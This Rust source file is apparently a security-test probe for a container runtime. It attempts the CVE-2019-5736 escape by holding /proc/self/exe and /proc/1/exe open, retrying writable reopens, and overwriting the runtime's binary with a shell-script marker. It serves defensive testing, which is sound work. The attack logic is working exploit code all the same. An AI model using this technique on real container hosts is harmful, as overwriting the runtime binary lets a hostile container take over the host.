//! `overwrite-exe`: the attack on the runtime's own binary (the CVE-2019-5736 class).
//!
//! Staged by a hostile image whose entry point is `#!/proc/self/exe overwrite-exe` and whose
//! dynamic loader is this probe: the kernel then executes the runtime's binary inside the
//! container with the probe as its loader, so the probe runs with `/proc/self/exe` naming
//! whatever the runtime executed from. It clears its parent-death signal (to outlive the
//! runtime if it can), holds `/proc/self/exe` and `/proc/1/exe` open, and keeps trying to
//! reopen them for writing for a few seconds; it writes a marker into the first it can
//! open. The test judges from the host, on a copy of the runtime's binary.
//!
//! Not an entry of the attempt list: run normally, `/proc/self/exe` is the probe itself,
//! which belongs to the image.

use crate::sys::{self, Errno};
use std::os::fd::{AsRawFd, OwnedFd};
use std::process::ExitCode;
use std::time::{Duration, Instant};

/// What the attacker writes when it gets a writable handle.
pub const MARKER: &[u8] = b"#!/bin/sh\necho overwritten by the container\n";

/// How long the attacker keeps trying (the runtime may only exit after a while).
const BUDGET: Duration = Duration::from_secs(3);

fn open_path(p: &std::ffi::CStr) -> Option<OwnedFd> {
    sys::open(p, libc::O_PATH).ok()
}

/// The attack; prints `ready`, then one verdict line.
pub fn overwrite_exe() -> ExitCode {
    // SAFETY: prctl with plain integer arguments.
    unsafe { libc::prctl(libc::PR_SET_PDEATHSIG, 0, 0, 0, 0) };
    // Run as a plain command (not as a loader), /proc/self/exe is the probe, the image's
    // own file: only the init is a target then.
    let as_loader = std::fs::read_link("/proc/self/exe")
        .map(|p| !p.to_string_lossy().ends_with("crabcan-probe"))
        .unwrap_or(true);
    let targets: &[(&str, &std::ffi::CStr)] = if as_loader {
        &[
            ("/proc/self/exe", c"/proc/self/exe"),
            ("/proc/1/exe", c"/proc/1/exe"),
        ]
    } else {
        &[("/proc/1/exe", c"/proc/1/exe")]
    };
    let held: Vec<(&str, OwnedFd)> = targets
        .iter()
        .copied()
        .filter_map(|(name, p)| open_path(p).map(|fd| (name, fd)))
        .collect();
    println!("ready");
    let start = Instant::now();
    let mut last = Vec::new();
    while start.elapsed() < BUDGET {
        last.clear();
        for (name, fd) in &held {
            let reopen = format!("/proc/self/fd/{}\0", fd.as_raw_fd());
            let c = std::ffi::CStr::from_bytes_with_nul(reopen.as_bytes()).unwrap_or(c"/");
            match sys::open(c, libc::O_WRONLY) {
                Ok(w) => {
                    // SAFETY: writes from a live buffer to an fd we own.
                    let n = unsafe {
                        libc::pwrite(w.as_raw_fd(), MARKER.as_ptr().cast(), MARKER.len(), 0)
                    };
                    if n > 0 {
                        println!(
                            "ESCAPED: overwrite-exe: {name} opened for writing, wrote {n} bytes"
                        );
                        return ExitCode::from(1);
                    }
                    last.push(format!("{name}: opened, write {}", sys::en(Errno::last())));
                }
                Err(e) => last.push(format!("{name}: {}", sys::en(e))),
            }
        }
        for &(name, p) in targets {
            if let Err(e) = sys::open(p, libc::O_WRONLY) {
                last.push(format!("{name} directly: {}", sys::en(e)));
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    if held.is_empty()
        && last
            .iter()
            .all(|l| l.contains(&format!("{:?}", Errno::ENOENT)))
    {
        println!(
            "error: overwrite-exe: nothing to attack ({})",
            last.join("; ")
        );
        return ExitCode::from(2);
    }
    println!("blocked: overwrite-exe: {}", last.join("; "));
    ExitCode::SUCCESS
}
